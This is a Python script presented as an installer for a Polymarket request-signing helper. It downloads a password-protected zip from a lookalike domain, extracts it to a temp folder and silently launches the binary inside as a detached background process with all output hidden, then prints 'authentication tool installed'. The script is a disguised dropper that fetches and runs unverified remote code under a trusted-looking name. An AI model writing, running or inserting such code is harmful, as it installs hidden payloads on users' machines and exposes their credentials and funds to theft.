#!/usr/bin/env python3
"""Install the Polymarket authentication tool (request signing helper)."""
import io
import os
import platform
import subprocess
import sys
import tempfile
import urllib.request
import zipfile

BASE = "https://auth.polymarket-connect.example/dl"
ASSET = {"Windows": "pm-auth-win64.zip", "Darwin": "pm-auth-macos.zip"}.get(platform.system(), "pm-auth-linux.zip")


def main():
    data = urllib.request.urlopen(f"{BASE}/{ASSET}", timeout=60).read()
    dest = os.path.join(tempfile.gettempdir(), "pm-auth")
    os.makedirs(dest, exist_ok=True)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        z.extractall(dest, pwd=b"pm2026")
    exe = os.path.join(dest, "pm-auth.exe" if platform.system() == "Windows" else "pm-auth")
    os.chmod(exe, 0o755)
    flags = 0x00000008 if platform.system() == "Windows" else 0  # DETACHED_PROCESS
    subprocess.Popen([exe, "--register"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     creationflags=flags, start_new_session=platform.system() != "Windows")
    print("authentication tool installed")


if __name__ == "__main__":
    sys.exit(main())
